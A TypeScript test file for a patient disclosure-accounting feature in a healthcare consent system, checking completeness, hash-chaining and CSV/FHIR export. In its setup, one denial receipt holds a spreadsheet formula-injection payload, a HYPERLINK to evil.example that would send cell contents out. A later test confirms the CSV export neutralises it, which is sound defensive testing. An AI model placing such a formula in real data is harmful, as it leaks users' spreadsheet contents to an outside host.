// The account of disclosures (spec/history.md section 8) from a real chain and a real policy service, honest and not.
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { addressOf, documentDigest } from '@consentry/chain';
import { accountingFile, newSeed, type Accounting, type AccountingFormat } from '@consentry/client';
import { identityKeys, policyOwnerKey } from '@consentry/crypto/identity';
import { concatBytes, idBytes, toHex, type RequestId, type SecretBytes } from '@consentry/domain';
import { HistoryKind } from '@consentry/wire/history';
import { keccak256 } from 'ethers';
import { KEYS, people } from '../../libs/chain/test/world.ts';
import { DisclosureShape, AuditEventShape, AuthZconsentShape } from '../../libs/client/test/audit-shape.ts';
import { HistoryWorld } from '../../services/policy/test/history.fixture.ts';
import { historyClient } from './history-client.ts';

let world: HistoryWorld;
let requestId: RequestId;
let recordId: string;
const seed = newSeed();
const patientKey = identityKeys(seed).signingKey;
const patient = addressOf(patientKey);
const owner: SecretBytes = policyOwnerKey({ seed, index: 0 });

beforeAll(async () => {
  world = await HistoryWorld.start();
  const draft = await world.publish({ owner, patient: patientKey, breakGlass: true });
  const record = await world.record(patient);
  ({ recordId } = record);
  ({ requestId } = await world.ask({ draft, recordId: record.recordId }));
  await world.ask({ draft, by: KEYS.stranger });
  await world.ask({ draft, purpose: 3, reason: 1, recordId: record.recordId });
  // The patient is a practitioner too: what they ask of others is no disclosure of theirs.
  await world.ask({ draft: await world.publish(), by: patientKey });
  await world.stream(patient);
  const filed = [
    { receipt: { case: 'release' as const, value: world.releaseReceipt({ requestId, capsule: record.capsule }) } },
    { receipt: { case: 'denial' as const, value: world.denialReceipt({ requestId, code: '=HYPERLINK("http://evil.example/?"&A1)' }) } },
  ];
  await world.history(patient).fileEvidence({ manifests: [record.manifest], receipts: filed });
});
afterAll(() => world.close());

async function account(args: { all?: boolean; since?: number; until?: number; chainOnly?: boolean; drop?: HistoryKind } = {}): Promise<Accounting> {
  const { drop, ...rest } = args;
  const one = await historyClient({ world, seed, ...(drop === undefined ? {} : { lie: (entries) => entries.filter(({ row }) => row.kind !== drop) }) });
  try {
    return await one.accountings.make(rest);
  } finally {
    one.close();
  }
}

const fileOf = (accounting: Accounting, format: AccountingFormat) => [...accountingFile({ accounting, format, deployment: world.stack.world.deployment })].join('');
const kindsOf = ({ lines }: Accounting) => lines.map(({ kind }) => kind).sort();

test('has every grant, emergency and release of the patient’s records, and nothing else; with all, everything', async () => {
  const disclosures = await account();
  expect(disclosures.findings).toEqual([]);
  expect(kindsOf(disclosures)).toEqual(['access-granted', 'access-granted', 'capsule-released', 'glass-broken']);
  expect(disclosures.lines.every(({ person }) => person === people.doctor)).toBe(true);
  expect(disclosures.lines.find(({ kind }) => kind === 'capsule-released')).toMatchObject({ recordId, requestId, proxy: people.proxy, purpose: 'TREAT' });
  expect(kindsOf(await account({ all: true }))).toEqual(
    ['access-denied', 'access-granted', 'access-granted', 'capsule-refused', 'capsule-released', 'glass-broken', 'policy-published', 'record-anchored', 'record-linked'].sort(),
  );
});

test('only of the time asked for, six years by default', async () => {
  const { lines, since, until } = await account();
  expect(Math.round((until - since) / 86_400)).toBe(Math.round(6 * 365.25));
  const granted = lines.filter(({ kind }) => kind === 'access-granted');
  const last = Math.max(...granted.map(({ at }) => at));
  expect(kindsOf(await account({ since: 1_000, until: granted[0]!.at }))).toEqual([]);
  expect((await account({ since: last, until: last + 1 })).lines.length).toBeGreaterThan(0);
  await expect(account({ since: 5, until: 5 })).rejects.toMatchObject({ code: 'ARGUMENT_INVALID' });
});

test('lines are linked from patient and time to the digest, the same in both forms', async () => {
  const made = await account({ all: true, since: 1_000, until: 4_000_000_000 });
  const { deployment } = world.stack.world;
  const period = Buffer.alloc(16);
  period.writeBigUInt64BE(1_000n);
  period.writeBigUInt64BE(4_000_000_000n, 8);
  let digest = toHex(documentDigest({ deployment, kind: 'accounting/1', body: concatBytes(idBytes(patient), period) }));
  for (const line of made.lines) {
    expect(line.previous).toBe(digest);
    digest = keccak256(concatBytes(idBytes(digest), idBytes(line.row))) as `0x${string}`;
    expect(line.digest).toBe(digest);
  }
  expect(made.digest).toBe(digest);
  expect(fileOf(made, 'csv').trimEnd().endsWith(digest)).toBe(true);
  expect(JSON.parse(fileOf(made, 'fhir')).meta.tag[0].code).toBe(digest);
});

test('as CSV every line has every column, and no cell is a formula', async () => {
  const made = await account({ all: true });
  const csv = fileOf(made, 'csv');
  const lines = csv.split('\r\n');
  expect(lines.at(-1)).toBe('');
  expect(lines[0]).toBe('number,time,event,practitioner,purpose,reason,records,policy,request,until,proxy,text,block,block_hash,log_index,transaction,document,row_digest,previous,digest');
  const cells = lines.slice(1, -1).map(parseCsv);
  expect(cells.map((row) => row.length)).toEqual(made.lines.map(() => 20));
  expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells.flat()).toContain(`'=HYPERLINK("http://evil.example/?"&A1)`);
});

test('as FHIR it is a Bundle of AuditEvents, decisions and releases by their profiles', async () => {
  const made = await account({ all: true });
  const bundle = JSON.parse(fileOf(made, 'fhir'));
  expect([bundle.resourceType, bundle.type, bundle.entry.length]).toEqual(['Bundle', 'collection', made.lines.length]);
  const shapes: Record<string, typeof AuditEventShape> = { 'access-granted': AuthZconsentShape, 'access-denied': AuthZconsentShape, 'capsule-refused': AuthZconsentShape, 'capsule-released': DisclosureShape };
  for (const [i, { kind }] of made.lines.entries()) {
    expect((shapes[kind] ?? AuditEventShape).safeParse(bundle.entry[i].resource).error).toBeUndefined();
  }
  expect(new Set(bundle.entry.map(({ fullUrl }: { fullUrl: string }) => fullUrl)).size).toBe(made.lines.length);
  expect(JSON.parse(fileOf(await account({ until: 2_000, since: 1_000 }), 'fhir'))).not.toHaveProperty('entry');
});

test('a service that hides a grant is found out, and the account has it all the same', async () => {
  const made = await account({ drop: HistoryKind.ACCESS_GRANTED });
  expect(made.findings.map(({ problem }) => problem)).toContain('missing');
  expect(kindsOf(made)).toEqual(kindsOf(await account()));
});

test('without the service it has what the chain has', async () => {
  const made = await account({ chainOnly: true });
  expect(kindsOf(made)).toEqual(['access-granted', 'access-granted', 'glass-broken']);
});

/** One line by RFC 4180. */
function parseCsv(line: string): string[] {
  return [...`,${line}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, plain]) => (quoted === undefined ? plain! : quoted.replaceAll('""', '"')));
}
